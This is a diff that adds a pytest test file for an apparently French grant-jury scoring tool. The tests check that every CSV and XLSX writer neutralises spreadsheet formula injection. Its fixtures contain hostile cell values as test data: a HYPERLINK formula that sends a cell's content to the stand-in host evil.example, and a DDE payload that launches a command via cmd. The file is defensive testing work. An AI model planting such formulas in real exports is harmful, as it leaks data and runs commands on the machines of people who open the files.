@@ -1,0 +1,217 @@
+"""Formula neutralisation: one function (isgrid.io.write.neutralise_cell), every writer.
+
+A cell that a spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@``, tab,
+CR, LF, and their full-width forms) is written with a leading ``'``; plain numbers
+(a negative score ``-1,33``) are left alone.  The last test lists every CSV or
+XLSX writer of ``src/`` by grep: a new writer must be added here.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import shutil
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+
+from isgrid.io.write import FORMULA_PREFIXES, neutralise_cell, neutralise_row
+from testpaths import HOSTILE, ROOT
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"clic")'
+
+
+@pytest.mark.parametrize(("raw", "written"), [
+    ("=1+2", "'=1+2"), ("+33 6 12", "'+33 6 12"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("\n=1", "'\n=1"), ("＝1+2", "'＝1+2"),
+    ("-", "'-"), ("+", "'+"), ("-1,33;=x", "'-1,33;=x"),
+    # plain numbers stay numbers
+    ("-1,33", "-1,33"), ("-12.5", "-12.5"), ("+3", "+3"), ("-1e-05", "-1e-05"),
+    ("-1\u202f234,5", "-1\u202f234,5"),
+    # everything else is left as it is
+    ("Appel 2024", "Appel 2024"), ("", ""), (" =1", " =1"), (-1.5, -1.5), (3, 3), (None, None),
+])
+def test_neutralise_cell(raw: Any, written: Any) -> None:
+    assert neutralise_cell(raw) == written
+    assert neutralise_row([raw, "x"]) == [written, "x"]
+
+
+def dangerous(cell: Any) -> bool:
+    """A written cell a spreadsheet would run: starts with a prefix and is not a plain number."""
+    if not isinstance(cell, str) or not cell.startswith(FORMULA_PREFIXES):
+        return False
+    return neutralise_cell(cell) != cell
+
+
+def csv_cells(data: bytes) -> list[str]:
+    text = data.decode("utf-8-sig")
+    sep = ";" if text.split("\n", 1)[0].count(";") else ","
+    return [c for row in csv.reader(io.StringIO(text), delimiter=sep) for c in row]
+
+
+@pytest.fixture
+def evil_call(tmp_path: Path) -> Path:
+    """The hostile base call with formula text wherever a user types text."""
+    call = tmp_path / "call"
+    shutil.copytree(HOSTILE / "base", call)
+    path = call / "call.yaml"
+    path.write_text(path.read_text(encoding="utf-8").replace(
+        "title: Appel de base du corpus hostile", "title: '+Appel @ la une'"), encoding="utf-8")
+    d01 = call / "dossiers" / "D01.yaml"
+    d01.write_text(d01.read_text(encoding="utf-8").replace(
+        "title: Repair café", f"title: '{EVIL.replace(chr(39), chr(39) * 2)}'"),
+        encoding="utf-8")
+    j1 = call / "ratings" / "j1.csv"
+    lines = j1.read_text(encoding="utf-8").splitlines()
+    head, first = lines[0], lines[1].split(",")
+    first[4:] = ["=cmd|' /C calc'!A0"]
+    j1.write_text("\n".join([head, ",".join(f'"{c}"' if "'" in c else c for c in first),
+                             *lines[2:]]) + "\n", encoding="utf-8")
+    return call
+
+
+def test_score_csv(evil_call: Path) -> None:
+    from isgrid.call.load import load_call
+    from isgrid.documents.text import score_csv
+    from isgrid.engine import score
+
+    for lang in ("fr", "en"):
+        cells = csv_cells(score_csv(score(load_call(evil_call)), lang))
+        assert "'" + EVIL in cells
+        assert not [c for c in cells if dangerous(c)]
+
+
+@pytest.mark.parametrize(("fmt", "layout"), [("csv", "rows"), ("xlsx", "rows"),
+                                             ("xlsx", "per-dossier")])
+def test_juror_sheets(evil_call: Path, tmp_path: Path, fmt: str, layout: str) -> None:
+    from isgrid.call.load import load_call
+    from isgrid.jury.sheets import write_sheets
+
+    out = tmp_path / "out"
+    write_sheets(load_call(evil_call), out, fmt=fmt, layout=layout)
+    cells: list[Any] = []
+    for path in sorted(out.iterdir()):
+        if fmt == "csv":
+            cells += csv_cells(path.read_bytes())
+            continue
+        wb = openpyxl.load_workbook(path)
+        for ws in wb.worksheets:
+            for row in ws.iter_rows():
+                for c in row:
+                    assert c.data_type != "f", (ws.title, c.coordinate)  # never a formula
+                    cells.append(c.value)
+    assert "'" + EVIL in cells
+    assert not [c for c in cells if dangerous(c)]
+
+
+def test_a_call_whose_title_starts_with_plus_round_trips(evil_call: Path, tmp_path: Path) -> None:
+    """The issue's case: a title '+Appel…' made every workbook unimportable."""
+    from isgrid.call.load import load_call
+    from isgrid.jury.importer import import_sheets
+    from isgrid.jury.sheets import write_sheets
+
+    out = tmp_path / "out"
+    write_sheets(load_call(evil_call), out, only=["j1"])
+    (evil_call / "ratings" / "j1.csv").unlink()
+    wb = openpyxl.load_workbook(out / "j1.xlsx")
+    ws = wb["Notation"]
+    heads = [c.value for c in ws[1]]
+    col = next(i for i, h in enumerate(heads) if str(h).startswith("B1")) + 1
+    ws.cell(2, col).value = 3
+    ws.cell(3, col).value = "=SOMME(A1:A9)"  # a juror's comment row: text that looks like a formula
+    ws.cell(3, col).data_type = "s"
+    wb.save(out / "j1.xlsx")
+    report = import_sheets(load_call(evil_call), [out / "j1.xlsx"])
+    written = (evil_call / "ratings" / "j1.csv").read_bytes()
+    assert report.counts["j1"] == 1
+    cells = csv_cells(written)
+    assert "'=SOMME(A1:A9)" in cells and not [c for c in cells if dangerous(c)]
+
+
+def test_ratings_and_opinions_written_by_the_import(evil_call: Path) -> None:
+    from isgrid.call.load import load_call
+    from isgrid.jury.importer import JurorSheet, opinions_csv, ratings_csv
+
+    call = load_call(evil_call)
+    sheet = JurorSheet("x.xlsx", "j1", ratings={("D01", "B1"): ("3", "@SUM(1)")},
+                       opinions={"D01": ("favorable", "1000", "-2+3")})
+    cells = csv_cells(ratings_csv(call, sheet)) + csv_cells(opinions_csv(call, sheet))
+    assert "'@SUM(1)" in cells and "'-2+3" in cells
+    assert not [c for c in cells if dangerous(c)]
+
+
+def test_assignments_csv() -> None:
+    from isgrid.jury.assign import Assignment, assignments_csv
+
+    cells = csv_cells(assignments_csv(Assignment([("=D1", "@j1"), ("D2", "j1")], {}, 1)))
+    assert cells == ["dossier", "assessor", "'=D1", "'@j1", "D2", "j1"]
+
+
+def test_scdl_export_neutralises_every_column(monkeypatch: pytest.MonkeyPatch) -> None:
+    """nomAttribuant and referenceDecision were written raw (the issue); now every column."""
+    from isgrid.documents import opendata
+
+    cols = opendata.columns(opendata.SCDL_VERSION)
+    row = {c: f"=evil({c})" for c in cols}
+    monkeypatch.setattr(opendata, "scdl_rows", lambda call, result, version=None: [row])
+    cells = csv_cells(opendata.scdl_csv(None, None))  # type: ignore[arg-type]
+    assert cells[len(cols):] == [f"'=evil({c})" for c in cols]
+
+
+def test_workspace_deports_csv(tmp_path: Path) -> None:
+    """conflicts/<juror>.csv of the jurors' workspace: the déport's reason is juror text."""
+    from types import SimpleNamespace
+
+    from isgrid.workspace.store import conflicts_csv
+
+    call = SimpleNamespace(dossiers=[SimpleNamespace(id="D1")])
+    deport = SimpleNamespace(dossier="D1", reason="=HYPERLINK(\"x\")")
+    cells = csv_cells(conflicts_csv(call, "j1", [deport]))  # type: ignore[arg-type,list-item]
+    assert cells[3:] == ["j1", "D1", "'=HYPERLINK(\"x\")"]
+
+
+def test_intake_opinions_csv() -> None:
+    """The Avis sheet of a Démarche Numérique export: an expert's free text."""
+    from isgrid.intake.mapping import AvisOpinion
+    from isgrid.intake.refresh import _opinions_bytes
+
+    cells = csv_cells(_opinions_bytes([AvisOpinion("D1", "expert-1", "favorable", "@SUM(A1)")]))
+    assert cells[5:] == ["D1", "expert-1", "favorable", "", "'@SUM(A1)"]
+
+
+def test_purge_rewritten_csv(tmp_path: Path) -> None:
+    """call purge rewrites ratings and opinions CSV: the cells it keeps stay neutralised."""
+    from isgrid.call.purge import _empty_comments
+
+    path = tmp_path / "r.csv"
+    path.write_text("dossier,assessor,criterion,value,comment\n=D1,j1,C1,3,avis\n",
+                    encoding="utf-8")
+    data, n = _empty_comments(path)
+    assert n == 1
+    assert csv_cells(data)[5:] == ["'=D1", "j1", "C1", "3", ""]
+
+
+#: Every module of src/ that writes CSV or XLSX, and the test above that covers it.
+WRITERS = {
+    "src/isgrid/documents/text.py": test_score_csv,
+    "src/isgrid/documents/opendata.py": test_scdl_export_neutralises_every_column,
+    "src/isgrid/jury/importer.py": test_ratings_and_opinions_written_by_the_import,
+    "src/isgrid/jury/assign.py": test_assignments_csv,
+    "src/isgrid/jury/sheets.py": test_juror_sheets,
+    "src/isgrid/workspace/store.py": test_workspace_deports_csv,
+    "src/isgrid/intake/refresh.py": test_intake_opinions_csv,
+    "src/isgrid/call/purge.py": test_purge_rewritten_csv,
+}
+
+
+def test_every_writer_is_covered() -> None:
+    found = set()
+    for path in (ROOT / "src").rglob("*.py"):
+        text = path.read_text(encoding="utf-8")
+        if re.search(r"csv\.(writer|DictWriter)\(|Workbook\(\)", text):
+            found.add(path.relative_to(ROOT).as_posix())
+    assert found == set(WRITERS), "a CSV/XLSX writer without a neutralisation test"
+
